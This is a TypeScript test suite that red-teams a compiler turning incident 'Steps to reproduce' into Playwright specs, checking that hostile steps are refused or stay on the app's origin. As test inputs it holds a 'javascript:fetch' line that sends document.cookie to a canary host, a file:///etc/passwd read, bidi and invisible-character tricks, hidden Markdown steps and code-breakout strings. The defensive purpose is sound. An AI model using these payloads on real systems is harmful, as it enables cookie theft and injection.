import { describe, expect, it } from 'vitest';
import ts from 'typescript';
import { compileSteps, specSource, stepsLimits, type CompiledSteps } from '../../src/core/steps.js';
import { markdownSection } from '../../src/core/steps-markdown.js';
import { checkSpec } from '../../src/core/code-policy.js';
import { configSchema } from '../../src/core/config-schema.js';
import { parseYamlWith } from '../../src/core/yaml-file.js';

// The steps compiler is the attack surface: an incident's "Steps to reproduce" can carry a customer's or an
// attacker's words. Every step text here either compiles to a spec that stays on baseURL's origin, or is refused
// with a reason that names its step (or, for a line no rule matches, its line and text).
const base = 'http://127.0.0.1:3000';
const H = '127.0.0.1:4999';
const C = `http://${H}`;
const policy = { baseURL: base };
const header = { incidentId: '2026-11-20-red-team', flowId: 'shop', title: 'Red team' };
const context = { incidentId: header.incidentId, flowId: header.flowId, origin: base };

/** The literals a spec navigates to or requests: page.goto(…), page.request.get(…), page.request.fetch(…). */
function targetsOf(body: readonly string[]): string[] {
  return body.flatMap((line) =>
    [...line.matchAll(/page\.(?:goto|request\.get|request\.fetch)\(("(?:[^"\\]|\\.)*")/g)].map(
      (m) => JSON.parse(m[1]!) as string,
    ),
  );
}

function syntaxErrors(code: string): string[] {
  const { diagnostics = [] } = ts.transpileModule(code, {
    reportDiagnostics: true,
    compilerOptions: { target: ts.ScriptTarget.ES2022 },
  });
  return diagnostics.map((d) => ts.flattenDiagnosticMessageText(d.messageText, ' '));
}

/** A compiled spec stays on `origins`: every target resolves there, the code policy finds nothing, it parses. */
function expectContained(compiled: CompiledSteps, origins: string[] = [base]): void {
  if (!compiled.ok) throw new Error(`refused: ${JSON.stringify(compiled.problems)}`);
  for (const target of targetsOf(compiled.body)) expect(origins, target).toContain(new URL(target, base).origin);
  const spec = specSource(header, compiled.body);
  expect(syntaxErrors(spec)).toEqual([]);
  const policyProblems = checkSpec(spec, { ...context, allowedOrigins: origins.slice(1) }).problems.filter(
    (p) => !p.startsWith('no incident assertion'),
  );
  expect(policyProblems).toEqual([]);
}

/** Refused, and every problem names its step (or the line and text of a line no rule matches). */
function expectRefused(compiled: CompiledSteps, reason: RegExp | 'no rule'): void {
  if (compiled.ok) throw new Error(`compiled: ${compiled.body.join('\n')}`);
  for (const problem of compiled.problems) {
    if (problem.reason) expect(problem.reason).toMatch(/^(step|line) \d+: /);
    else expect(problem.text.length).toBeGreaterThan(0);
    expect(problem.text).not.toMatch(
      /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/,
    );
  }
  if (reason === 'no rule') expect(compiled.problems.some((p) => p.reason === undefined)).toBe(true);
  else expect(compiled.problems.map((p) => p.reason ?? '').join('\n')).toMatch(reason);
}

const offOrigin = new RegExp(
  `reaches ${C.replaceAll('.', '\\.')}, outside baseURL's origin ${base.replaceAll('.', '\\.')}`,
);
const scheme = (name: string) => new RegExp(`uses the ${name}: scheme`);
const char = (step: number, code: string, kind: string) =>
  new RegExp(`^step ${step}: U\\+${code} \\(${kind}\\) is not allowed`);
const vacuous = /so this Expect proves nothing/;

type Case = [name: string, steps: string, outcome: RegExp | 'no rule' | 'compiles'];

const controlAndInvisible: Case[] = [
  ['U+0001 before http://canary', `Go to \u0001${C}/`, char(1, '0001', 'a control character')],
  ['U+001F before //canary', `Go to \u001f//${H}/`, char(1, '001F', 'a control character')],
  [
    'NUL before javascript: (Markdown shows U+FFFD; the raw line is refused)',
    'Go to \u0000javascript:alert(1)',
    /^step 1: U\+0000 \(a control character\) is not allowed, even where a reader does not see it/,
  ],
  ['NEL (C1) before //canary', `Go to \u0085//${H}`, char(1, '0085', 'a control character')],
  ['CSI (C1) before data:', 'Go to \u009bdata:text/html,x', char(1, '009B', 'a control character')],
  ['a zero-width space before http://canary', `Go to \u200b${C}`, char(1, '200B', 'an invisible character')],
  ['a left-to-right mark before //canary', `Go to \u200e//${H}`, char(1, '200E', 'a bidirectional control')],
  [
    'a right-to-left override before javascript:',
    'Go to \u202ejavascript:alert(1)',
    char(1, '202E', 'a bidirectional control'),
  ],
  ['isolates around //canary', `Go to \u2066//${H}\u2069`, char(1, '2066', 'a bidirectional control')],
  ['a BOM before file:', 'Go to \ufefffile:///etc/passwd', char(1, 'FEFF', 'an invisible character')],
  ['a line separator before //canary', `Go to \u2028//${H}`, char(1, '2028', 'a line separator')],
  [
    'a paragraph separator in quoted text',
    'Wait for the text "a\u2029await page.goto(1)"',
    char(1, '2029', 'a paragraph separator'),
  ],
  ['a soft hyphen in a path', 'Go to /pricing\u00ad', char(1, '00AD', 'an invisible character')],
  ['a tag character in a name', 'Click "Pay\u{e0041}"', char(1, 'E0041', 'an invisible character')],
  ['a character reference to a zero-width space', `Go to &#x200b;//${H}`, char(1, '200B', 'an invisible character')],
  [
    'a character reference to a line feed, second step',
    `Go to /a\nFill "Name" with "a&#10;Go to //${H}"`,
    char(2, '000A', 'a control character'),
  ],
  ['a tab between the words and the URL', `Go to\t//${H}`, char(1, '0009', 'a control character')],
  ['a terminal escape in a name', 'Click "\u001b[2JSave"', char(1, '001B', 'a control character')],
  [
    'a bidi control hidden in a comment',
    'Go to /a <!-- \u202e -->',
    /^step 1: U\+202E \(a bidirectional control\) is not allowed, even where a reader does not see it/,
  ],
  [
    'a vertical tab before code',
    'Wait for the text "a\vawait page.evaluate(() => 1); //"',
    char(1, '000B', 'a control character'),
  ],
  [
    'a form feed in a URL part',
    'Expect the URL to contain /a\fawait page.evaluate(() => 1); //',
    char(1, '000C', 'a control character'),
  ],
  [
    'a CR ends the line, as Markdown reads it: neither half is a step',
    'Wait for the text "a\rawait page.evaluate(() => 1); //"',
    'no rule',
  ],
];

const backslashesAndHosts: Case[] = [
  ['//canary', `Go to //${H}/x`, offOrigin],
  ['http://canary', `Go to ${C}/x`, offOrigin],
  ['two leading spaces before http://canary', `Go to   ${C}`, offOrigin],
  ['\\\\canary, which Markdown shows as \\canary: a same-origin path', `Go to \\\\${H}/x`, 'compiles'],
  ['\\\\canary in a code span, shown as written', `Go to \`\\\\${H}/x\``, offOrigin],
  ['/\\canary', `Go to /\\${H}/x`, offOrigin],
  ['/\\canary in a code span', `Go to \`/\\${H}/x\``, offOrigin],
  ['http:\\\\canary in a code span', `Go to \`http:\\\\${H}\``, offOrigin],
  ['full-width dots in the host', `Go to http://127\u30020\u30020\u30021:4999/`, offOrigin],
  ['full-width dots without a scheme: a same-origin path', 'Go to canary\u3002example', 'compiles'],
  ['userinfo that looks like the app', `Go to ${base}@${H}/`, offOrigin],
  ['a decimal IP', 'Go to http://2130706433:4999/', offOrigin],
  ['a hex IP', 'Go to http://0x7f.1:4999/', offOrigin],
  ['https: with a host, another scheme than baseURL', `Go to https:${H}`, /reaches https:\/\/127\.0\.0\.1:4999/],
  ['http: without slashes: a same-origin path', `Go to http:${H}`, 'compiles'],
  ['a dot segment before //canary: emitted as /.//…', `Go to ${base}/.//${H}/x`, 'compiles'],
  ['.. before //canary', `Go to /a/..//${H}/x`, 'compiles'],
  ['the app in capitals', 'Go to HTTP://127.0.0.1:3000/ok', 'compiles'],
  ['an API check on //canary', `Go to /a\nExpect GET //${H}/api to return 200`, 'no rule'],
  ['an API check on http://canary', `Expect POST ${C}/steal to return 200`, 'no rule'],
  ['an API path through .. and //', `Expect GET /a/..//${H} to return 200`, 'compiles'],
];

const otherSchemes: Case[] = [
  ['javascript:', `Go to javascript:fetch('//${H}/'+document.cookie)`, scheme('javascript')],
  ['JaVaScRiPt:', 'Go to JaVaScRiPt:alert(1)', scheme('javascript')],
  [
    'data: (its <script> is inline HTML, the scheme stays)',
    `Go to data:text/html,<script>fetch('//${H}')</script>`,
    scheme('data'),
  ],
  ['file:', 'Go to file:///etc/passwd', scheme('file')],
  ['view-source:', `Go to view-source:${C}`, scheme('view-source')],
  ['blob:', `Go to blob:${C}/x`, scheme('blob')],
  ['ws:', `Go to ws://${H}/`, scheme('ws')],
  ['about:', 'Go to about:blank', scheme('about')],
  ['chrome:', 'Go to chrome://settings', scheme('chrome')],
  ['ftp:', `Go to ftp://${H}/`, scheme('ftp')],
  ['mailto: as a navigation', 'Go to mailto:help@example.com', scheme('mailto')],
];

const hiddenMarkdown: Case[] = [
  [
    'steps inside a multi-line HTML comment',
    `1. Go to /a\n<!--\n2. Go to ${C}/hidden\n3. Expect the URL to contain /x\n-->\n4. Click "Save"`,
    'compiles',
  ],
  ['a comment left open hides the rest', `Go to /a\n<!--\nGo to //${H}`, 'compiles'],
  ['an inline comment over lines inside a paragraph', `Go to /a <!--\nGo to //${H}\n-->`, 'compiles'],
  ['an inline comment after a step', `Click "Save" <!-- Go to //${H} -->`, 'compiles'],
  ['text after a comment closes an HTML block', `<!-- note --> Go to //${H}`, /^step 1: HTML is not a step/],
  ['an HTML block with a hidden div', `<div hidden>\nGo to //${H}\n</div>`, /^step 1: HTML is not a step/],
  ['a script block', `<script>\nfetch('//${H}')\n</script>`, /^step 1: HTML is not a step/],
  ['a link reference definition is hidden', `[x]: ${C} "Go to //${H}"\nGo to /a`, 'compiles'],
  ['a link shows its text, not its target', `Go to [/pricing](${C})`, 'compiles'],
  ['an image shows a picture, not its alt text', `![Go to //${H}](x.png)\nGo to /a`, 'compiles'],
  ['fenced code is visible, so it is read (and refused here)', `\`\`\`\nGo to //${H}\n\`\`\``, offOrigin],
  ['fenced code is visible, so it is read', '```\nGo to /a\nPress Enter\n```', 'compiles'],
  ['an escaped comment is visible text, not a step', `\\<!-- Go to //${H} -->`, 'no rule'],
];

const literalBreakouts: Case[] = [
  ['quotes and a goto typed into a field', `Fill "New todo" with "'); await page.goto('${C}/x'); ('"`, 'compiles'],
  ['a template literal in a code span', 'Fill "New todo" with "`${process.exit(1)}`"', 'compiles'],
  ['*/ and </script> in a code span', 'Expect the title to be "`*/ </script> ${1}`"', 'compiles'],
  ['a double quote breakout', 'Click "x"); process.exit(1); //"', 'no rule'],
  ['a breakout after a key', 'Press Enter"); require("child_process"); ("', 'no rule'],
  ['a forged marker in a name', 'Click "x // @incident-assertion"', 'compiles'],
  ['a forged marker after a path', 'Go to /a // @incident-assertion', 'no rule'],
];

const vacuousExpects: Case[] = [
  [
    'the URL contains /',
    'Go to /a\nExpect the URL to contain /',
    /^step 2: every URL of http:\/\/127\.0\.0\.1:3000 contains "\/"/,
  ],
  ['the URL contains the host', 'Expect the URL to contain 127.0.0.1:3000', vacuous],
  ['the URL contains http', 'Expect the URL to contain http', vacuous],
  ['the URL contains ""', 'Expect the URL to contain ""', vacuous],
  ['the URL contains "://"', 'Expect the URL to contain "://"', vacuous],
  ['an empty text is visible', 'Expect the text "" to be visible', vacuous],
  ['a blank text is visible', 'Expect the text "  " to be visible', vacuous],
  ['an element contains an empty text', 'Expect the "Cart" status to contain the text ""', vacuous],
  ['the URL contains a path the bug broke', 'Expect the URL to contain /checkout', 'compiles'],
  ['the URL contains a port and a path', 'Expect the URL to contain 3000/checkout', 'compiles'],
];

// issue 11, item 7: strings that are not navigation targets are data, never URL-checked
const noFalseRefusals: Case[] = [
  ['"Total: 5 items"', 'Expect the text "Total: 5 items" to be visible', 'compiles'],
  ['"Error: email required"', 'Expect the text "Error: email required" to be visible', 'compiles'],
  ['a mailto: and a Note: string', 'Expect the text "Note: mailto:help@example.com" to be visible', 'compiles'],
  ['a URL typed into a field', 'Fill "Website" with "https://evil.example"', 'compiles'],
  ['the canary typed into a field', `Fill "Website" with "${C}/typed"`, 'compiles'],
  ['a title that starts with a URL', 'Expect the title to be "https://x.com is down"', 'compiles'],
  ['a link named like a mailto:', 'Click "mailto:help@example.com"', 'compiles'],
  ['a javascript: text', 'Wait for the text "javascript: is disabled"', 'compiles'],
  ['internal: selector text', 'Select "internal:role=button" in "Selector"', 'compiles'],
];

const corpus: Record<string, Case[]> = {
  'control and invisible characters': controlAndInvisible,
  'backslashes, full-width dots and other hosts': backslashesAndHosts,
  'other schemes': otherSchemes,
  'hidden Markdown': hiddenMarkdown,
  'literal breakouts and forged markers': literalBreakouts,
  'vacuous Expects': vacuousExpects,
  'no false refusals': noFalseRefusals,
};

describe('steps red team', () => {
  it('has at least 40 step texts', () => {
    expect(Object.values(corpus).flat().length).toBeGreaterThanOrEqual(40);
  });

  for (const [group, cases] of Object.entries(corpus)) {
    describe(group, () => {
      it.each(cases)('%s', (_, steps, outcome) => {
        const compiled = compileSteps(steps, 1, policy);
        if (outcome === 'compiles') expectContained(compiled);
        else expectRefused(compiled, outcome);
      });
    });
  }

  it('hidden steps never reach the spec, and visible ones keep their numbers and lines', () => {
    const compiled = compileSteps(hiddenMarkdown[0]![1], 20, policy);
    if (!compiled.ok) throw new Error('expected ok');
    expect(compiled.steps).toEqual([
      { number: 1, text: 'Go to /a', line: 20 },
      { number: 2, text: 'Click "Save"', line: 25 },
    ]);
    for (const [, steps, outcome] of hiddenMarkdown) {
      const result = compileSteps(steps, 1, policy);
      if (outcome === 'compiles' && result.ok) expect(result.body.join('\n')).not.toContain('4999');
    }
  });

  it('emits the resolved path, never the text as written', () => {
    const body = (steps: string) => {
      const compiled = compileSteps(steps, 1, policy);
      if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
      return targetsOf(compiled.body);
    };
    expect(body(`Go to ${base}/.//${H}/x`)).toEqual([`/.//${H}/x`]);
    expect(body(`Go to /a/..//${H}/x`)).toEqual([`/.//${H}/x`]);
    expect(body(`Go to \\\\${H}/x`)).toEqual([`/${H}/x`]);
    expect(body(`Go to http:${H}`)).toEqual([`/${H}`]);
    expect(body('Go to HTTP://127.0.0.1:3000/ok?a=1#b')).toEqual(['/ok?a=1#b']);
    expect(body('Go to canary\u3002example')).toEqual(['/canary%E3%80%82example']);
    expect(body('Go to pricing')).toEqual(['/pricing']);
    expect(body(`Expect GET /a/..//${H} to return 200`)).toEqual([`/.//${H}`]);
    for (const target of [`/.//${H}/x`, `/${H}`]) expect(new URL(target, base).origin).toBe(base);
  });

  it('a forged marker stays text: only Expect steps are incident assertions', () => {
    const compiled = compileSteps('Click "x // @incident-assertion"\nExpect the text "Done" to be visible', 1, policy);
    if (!compiled.ok) throw new Error('expected ok');
    const assertions = checkSpec(specSource(header, compiled.body), context).assertions;
    expect(assertions).toHaveLength(1);
    expect(compiled.body[0]).toBe('// step 1: Click "x // @ incident-assertion"');
  });

  it('allowedOrigins lets a step reach a listed origin, emitted as a full URL, and no other', () => {
    const allowed = { baseURL: base, allowedOrigins: ['https://js.stripe.com'] };
    const compiled = compileSteps('Go to https://js.stripe.com/v3\nGo to /a', 1, allowed);
    expectContained(compiled, [base, 'https://js.stripe.com']);
    expect(compiled.ok && targetsOf(compiled.body)).toEqual(['https://js.stripe.com/v3', '/a']);
    expectRefused(compileSteps('Go to https://js.stripe.com/v3', 1, policy), /reaches https:\/\/js\.stripe\.com/);
    expectRefused(
      compileSteps(`Go to ${C}`, 1, allowed),
      /outside baseURL's origin http:\/\/127\.0\.0\.1:3000 and allowedOrigins/,
    );
  });
});

describe('huge incidents compile or are refused quickly', () => {
  const timed = <T>(work: () => T): [T, number] => {
    const start = performance.now();
    const value = work();
    return [value, performance.now() - start];
  };

  it('a 300 KB steps section is refused with its size, at once', () => {
    const steps = 'Go to /pricing\n'.repeat(20_480);
    const [compiled, ms] = timed(() => compileSteps(steps, 7, policy));
    expect(compiled).toEqual({
      ok: false,
      problems: [
        {
          line: 7,
          text: '(300 KB of steps)',
          reason: 'the steps are 300 KB; the compiler reads at most 64 KB (a regression test needs a few dozen steps)',
        },
      ],
    });
    expect(ms).toBeLessThan(500);
  });

  it('more steps than the compiler reads are refused with their count', () => {
    const [compiled, ms] = timed(() => compileSteps('Press Tab\n'.repeat(stepsLimits.steps + 1), 1, policy));
    expect(compiled.ok).toBe(false);
    expect(!compiled.ok && compiled.problems[0]!.reason).toMatch(/^501 steps; the compiler reads at most 500/);
    expect(ms).toBeLessThan(3_000);
  });

  it('finds the section of a 250 KB incident of pathological Markdown in linear time', () => {
    const size = 250 * 1024;
    const bodies = {
      emphasis: '*a'.repeat(size / 2),
      brackets: '['.repeat(size),
      nestedLists: '- '.repeat(size / 2),
      nestedQuotes: '> '.repeat(size / 2),
      setextHeadings: 'a\n=\n'.repeat(size / 4),
      comments: '<!--\n'.repeat(size / 5),
      references: '[a]: b\n'.repeat(size / 7),
    };
    for (const [name, filler] of Object.entries(bodies)) {
      const body = `## What happened\n${filler}\n\n## Steps to reproduce\n1. Go to /a\n\n## Expected\n`;
      const [section, ms] = timed(() => markdownSection(body, 'Steps to reproduce'));
      // an HTML comment left open hides the heading: no section, as no reader sees one
      if (name === 'comments') expect(section, name).toBeUndefined();
      else expect(section?.text.trim(), name).toBe('1. Go to /a');
      expect(ms, name).toBeLessThan(5_000);
    }
  });

  it('refuses 64 KB of control characters, one problem a line, in linear time', () => {
    const [compiled, ms] = timed(() =>
      compileSteps('Go to /\u0001\n'.repeat(Math.floor(stepsLimits.chars / 9)), 1, policy),
    );
    expect(!compiled.ok && compiled.problems.length).toBe(Math.floor(stepsLimits.chars / 9));
    expect(ms).toBeLessThan(3_000);
  });

  it('compiles 64 KB of pathological Markdown in linear time', () => {
    for (const filler of ['*a', '[', '- ', '> ', '`a``', '<a ']) {
      const steps = `Go to /a\n${filler.repeat(Math.floor((stepsLimits.chars - 20) / filler.length))}`;
      const [compiled, ms] = timed(() => compileSteps(steps, 1, policy));
      // lists nested past 20 levels are not read (markdown-it's bound): what compiles is less, never more
      if (compiled.ok)
        expect(
          compiled.steps.map((step) => step.text),
          filler,
        ).toEqual(['Go to /a']);
      expect(ms, filler).toBeLessThan(3_000);
    }
  });
});

describe('the Steps to reproduce section, as a reader sees it', () => {
  it('skips a heading hidden in a comment or a code block, and ends at the next heading of its level', () => {
    const body = [
      '## What happened',
      '<!--',
      '## Steps to reproduce',
      `Go to ${C}/hidden`,
      '-->',
      '```',
      '## Steps to reproduce',
      '```',
      '## Steps to reproduce',
      '1. Go to /ok',
      '### Notes',
      'Press Enter',
      '## Expected',
      'Checkout.',
    ].join('\n');
    expect(markdownSection(body, 'Steps to reproduce')).toEqual({
      text: '1. Go to /ok\n### Notes\nPress Enter',
      line: 10,
    });
  });

  it('takes a heading of any level and a setext heading, not one in a list item', () => {
    expect(
      markdownSection(
        '- ## Steps to reproduce\n  Go to /x\n\nSteps to reproduce\n---\nGo to /a\n',
        'Steps to reproduce',
      ),
    ).toEqual({ text: 'Go to /a\n', line: 6 });
    expect(
      markdownSection('# Steps to reproduce\nGo to /a\n## Sub\nPress Tab\n# Expected', 'steps to reproduce')?.text,
    ).toBe('Go to /a\n## Sub\nPress Tab');
    expect(markdownSection('## What happened\nx', 'Steps to reproduce')).toBeUndefined();
  });
});

describe('allowedOrigins in verigap.yaml', () => {
  const parse = (yaml: string) => parseYamlWith(yaml, configSchema);
  it('takes http(s) origins', () => {
    expect(parse('allowedOrigins: [https://js.stripe.com, "http://127.0.0.1:4000", "https://x.example:443/"]').ok).toBe(
      true,
    );
  });
  it.each([
    'https://js.stripe.com/v3',
    'javascript:alert(1)',
    'ftp://files.example',
    'https://user@x.example',
    'https://x.example?a',
    'js.stripe.com',
  ])('refuses %s, naming the line and the fix', (entry) => {
    const parsed = parse(`baseURL: http://localhost:3000\nallowedOrigins:\n  - ${JSON.stringify(entry)}\n`);
    expect(parsed.ok).toBe(false);
    expect(!parsed.ok && parsed.problem).toEqual({
      line: 3,
      reason: `allowedOrigins.0: ${JSON.stringify(entry)} is not an http(s) origin: verigap.yaml's allowedOrigins lists scheme://host[:port] only, e.g. https://js.stripe.com`,
    });
  });
});

describe('the code policy checks navigation targets only', () => {
  const wrap = (body: string) =>
    `import { test, expect } from '@playwright/test';\ntest('x @incident:${header.incidentId} @flow:shop', async ({ page }) => {\n${body}\n  await expect(page).toHaveURL(/checkout/); // @incident-assertion\n});\n`;
  const problems = (body: string) => checkSpec(wrap(body), context).problems;

  it('leaves strings that are data alone', () => {
    expect(
      problems(
        [
          "  await expect(page.getByText('Total: 5 items')).toBeVisible();",
          "  await page.getByLabel('Website').fill('https://evil.example');",
          "  await page.getByRole('link', { name: 'mailto:help@example.com' }).click();",
          "  await expect(page.getByText('Note: read this')).toBeVisible();",
          "  await expect(page.getByText('Error: email required')).toBeVisible();",
          "  await expect(page).toHaveTitle('https://x.com is down');",
          "  await page.locator('internal:role=button').click();",
        ].join('\n'),
      ),
    ).toEqual([]);
  });

  it('resolves goto and request targets the way the browser does', () => {
    for (const target of [
      `//${H}`,
      `\\\\${H}`,
      `/\\${H}`,
      ` ${C}`,
      `http://127\u30020\u30020\u30021:4999`,
      `${base}@${H}`,
      `https:${H}`,
    ]) {
      expect(problems(`  await page.goto(${JSON.stringify(target)});`), target).toEqual([
        expect.stringMatching(/reaches http(s)?:\/\/127\.0\.0\.1:4999/),
      ]);
      expect(problems(`  await page.request.get(${JSON.stringify(target)});`), target).toEqual([
        expect.stringMatching(/reaches/),
      ]);
    }
    expect(problems(`  await page['goto']('//${H}');`)).toEqual([expect.stringMatching(/page\.goto\(\): .*reaches/)]);
    expect(problems(`  await page.goto('\\u0001${C}');`)).toEqual([
      expect.stringMatching(/holds U\+0001 \(a control character\)/),
    ]);
    expect(problems("  await page.goto('javascript:alert(1)');")).toEqual([
      expect.stringMatching(/uses the javascript: scheme/),
    ]);
    expect(problems('  const target = "/a";\n  await page.goto(target);')).toEqual([
      expect.stringMatching(/takes a literal path/),
    ]);
    expect(problems(`  await page.goto('/.//${H}');\n  await page.request.fetch('/api', { method: 'POST' });`)).toEqual(
      [],
    );
  });
});
